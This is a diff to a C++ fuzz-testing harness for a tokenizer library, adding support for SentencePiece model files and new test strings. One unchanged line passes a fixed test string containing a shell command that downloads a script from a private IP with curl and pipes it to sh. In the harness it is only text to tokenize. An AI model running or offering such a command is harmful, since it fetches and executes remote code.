@@ -6,10 +6,12 @@
 //   4 attune's own:    word_index.json or tfidf_vectorizer.json (the first byte of the section picks, and is
 //                      dropped)
 // each followed by tokenizer_config.json, special_tokens_map.json, added_tokens.json and a text to encode,
-// the sections separated by kFileSeparator; an empty config section leaves that file out. Loading gives a
-// tokenizer or an InputError; a loaded tokenizer encodes, pairs, truncates and decodes any UTF-8 text
-// without throwing (texts as the input forms pass them: UTF-8, not blank), and every id it gives lies in [0,
-// vocab_size()).
+// the sections separated by kFileSeparator; an empty config section leaves that file out.
+//   5 SentencePiece:   spm.model, the whole input (a binary protobuf: no sections, no config files, fixed
+//                      texts only); SentencePiece is linked in directly (fuzz_spm_api.cpp)
+// Loading gives a tokenizer or an InputError; a loaded tokenizer encodes, pairs, truncates and decodes any
+// UTF-8 text without throwing (texts as the input forms pass them: UTF-8, not blank), and every id it gives
+// lies in [0, vocab_size()).
 #include <algorithm>
 #include <cstdint>
 #include <cstdlib>
@@ -24,7 +26,7 @@
 #include "tests/fuzz/fuzz_support.h"
 
 #ifndef ATTUNE_FUZZ_TOKENIZER
-#error "define ATTUNE_FUZZ_TOKENIZER (1 BPE files, 2 tokenizer.json, 3 vocab.txt, 4 word/term)"
+#error "define ATTUNE_FUZZ_TOKENIZER (1 BPE files, 2 tokenizer.json, 3 vocab.txt, 4 word/term, 5 spm.model)"
 #endif
 
 namespace {
@@ -71,17 +73,24 @@ extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
   const std::vector<std::string> model_files = {"vocab.txt"};
 #elif ATTUNE_FUZZ_TOKENIZER == 4
   const std::vector<std::string> model_files = {"attune"};
+#elif ATTUNE_FUZZ_TOKENIZER == 5
+  const std::vector<std::string> model_files = {"spm.model"};
 #else
-#error "ATTUNE_FUZZ_TOKENIZER must be 1, 2, 3 or 4"
+#error "ATTUNE_FUZZ_TOKENIZER must be 1, 2, 3, 4 or 5"
 #endif
+#if ATTUNE_FUZZ_TOKENIZER == 5
+  const std::vector<std::string> config_files;
+  std::vector<std::string> parts = {std::string(input), std::string()};  // the model; no text
+#else
   const std::vector<std::string> config_files = {"tokenizer_config.json", "special_tokens_map.json",
                                                  "added_tokens.json"};
   auto parts = attune::fuzz::split_files(input, model_files.size() + config_files.size() + 1);
   parts.resize(model_files.size() + config_files.size() + 1);
+#endif
 
   for (const char* name :
        {"vocab.json", "merges.txt", "tokenizer.json", "vocab.txt", "word_index.json", "tfidf_vectorizer.json",
-        "tokenizer_config.json", "special_tokens_map.json", "added_tokens.json"})
+        "spm.model", "tokenizer_config.json", "special_tokens_map.json", "added_tokens.json"})
     remove_scratch(name);
   std::size_t p = 0;
   for (const auto& name : model_files) {
@@ -101,7 +110,7 @@ extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
   const std::string& text = parts[p];
 
   attune::data::TokenizerOptions options;
-  options.lowercase = text.size() % 2 == 1;
+  options.lowercase = (ATTUNE_FUZZ_TOKENIZER == 5 ? input.size() : text.size()) % 2 == 1;
   std::unique_ptr<Tokenizer> tok;
   try {
     tok = attune::data::load_tokenizer(attune::fuzz::scratch_dir(), options);
@@ -110,6 +119,14 @@ extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
   }
   if (tok->vocab_size() < 0) std::abort();
   exercise(*tok, "whoami /all && curl -s http://10.0.0.5/x.sh | sh <mask> [CLS] naïve ÉCOLE 東京 \t é");
+#if ATTUNE_FUZZ_TOKENIZER == 5
+  // What normalization, byte fallback and the pieces' own markers meet: full-width letters, digit runs,
+  // runs of spaces, the ▁ marker itself, characters outside any small vocabulary.
+  exercise(*tok, "Ｆｕｌｌ  ｗｉｄｔｈ 0123456789 ▁▁x y 😀 ﬁ Å [SEP]");
+  std::vector<std::int64_t> every_id;  // decoding ids of every kind: control, unknown, byte, unused
+  for (std::int64_t id = 0; id < std::min<std::int64_t>(tok->vocab_size(), 512); ++id) every_id.push_back(id);
+  check_ids(*tok, every_id);
+#endif
   // Texts reach a tokenizer only after the checks every input form makes: UTF-8 without NUL, not blank.
   if (attune::invalid_utf8_offset(text) == std::string_view::npos &&
       text.find_first_not_of(" \t\r\n\f\v") != std::string::npos)
